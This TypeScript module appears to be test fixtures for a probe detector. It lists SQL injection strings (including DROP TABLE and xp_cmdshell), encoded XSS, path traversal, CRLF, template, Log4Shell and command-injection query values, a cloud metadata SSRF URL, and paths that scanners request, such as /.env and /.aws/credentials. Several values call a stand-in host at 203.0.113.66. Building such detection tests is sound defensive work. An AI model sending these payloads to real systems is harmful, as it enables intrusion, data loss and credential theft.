/** What probes send in a query: each has no honest reading. */
export const sqlPayloads: readonly string[] = [
  "' OR '1'='1",
  "' or 1=1--",
  '" or "a"="a',
  "') or ('x'='x",
  "admin' and 1=1#",
  "1' UNION SELECT NULL,NULL--",
  '-1 union all select 1,2,3',
  '1 UNION SELECT username, password FROM users',
  "'; DROP TABLE users; --",
  "1'; insert into users values (1)--",
  "1' and sleep(5)--",
  '1 or pg_sleep(10)--',
  "'; waitfor delay '0:0:5'--",
  "'; exec master..xp_cmdshell 'dir'",
]

/** What looks like SQL, and could be a sentence: only many different ones are a probe. */
export const vagueSqlPayloads: readonly string[] = [
  "1' --",
  "x' #",
  '1 and 1=2',
  "a' order by 9",
  "' or x=y",
  "b' or 5>4",
  '2 or 2>1',
  "c' group by 2",
  "x' and email is null",
  '1; select version()',
]

/** Scripts, paths, commands, templates, line breaks, null bytes: as they stand in a query, encoded. */
export const injectionTargets: readonly string[] = [
  '/api/notes?search=%3Cscript%3Ealert(1)%3C/script%3E',
  '/api/notes?search=%3Cimg%20src=x%20onerror=alert(1)%3E',
  '/api/notes?search=%3Csvg/onload=alert(1)%3E',
  '/api/notes?next=javascript:alert(document.cookie)',
  '/api/files/..%2f..%2f..%2fetc%2fpasswd',
  '/api/files?name=../../../../windows/win.ini',
  '/api/files?name=..%5c..%5cboot.ini',
  '/api/files?name=report.pdf%00.png',
  '/api/notes?lang=en%0d%0aSet-Cookie:%20admin=1',
  '/api/notes?search=%7B%7B7*7%7D%7D',
  '/api/notes?search=%24%7B7*7%7D',
  '/api/notes?search=%24%7Bjndi:ldap://203.0.113.66/a%7D',
  '/api/notes?host=127.0.0.1;cat%20/etc/passwd',
  '/api/notes?host=x%7Cwhoami',
  '/api/notes?host=%24(curl%20http://203.0.113.66)',
  '/api/notes?url=http://169.254.169.254/latest/meta-data/',
  '/api/files?name=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd',
]

/** What somebody may write who writes about such things. */
export const vagueInjectionTargets: readonly string[] = [
  '/api/notes?search=%3Cscript%3Ex',
  '/api/notes?search=%3Ciframe%20src=a%3E',
  '/api/notes?search=javascript:x',
  '/api/notes?search=..%2f..%2fx',
  '/api/notes?search=%24%7Benv:HOME%7D',
  '/api/notes?search=%3Csvg%3E',
  '/api/notes?search=%253Cb%253E',
  '/api/notes?search=%3Cobject%3E',
  '/api/notes?search=a%7Cid',
  '/api/notes?search=%3Cembed%3E',
]

/** What scanners ask every server for. */
export const scannerPaths: readonly string[] = [
  '/.env',
  '/.git/config',
  '/wp-login.php',
  '/phpmyadmin/index.php',
  '/actuator/env',
  '/backup.sql',
  '/.aws/credentials',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
]
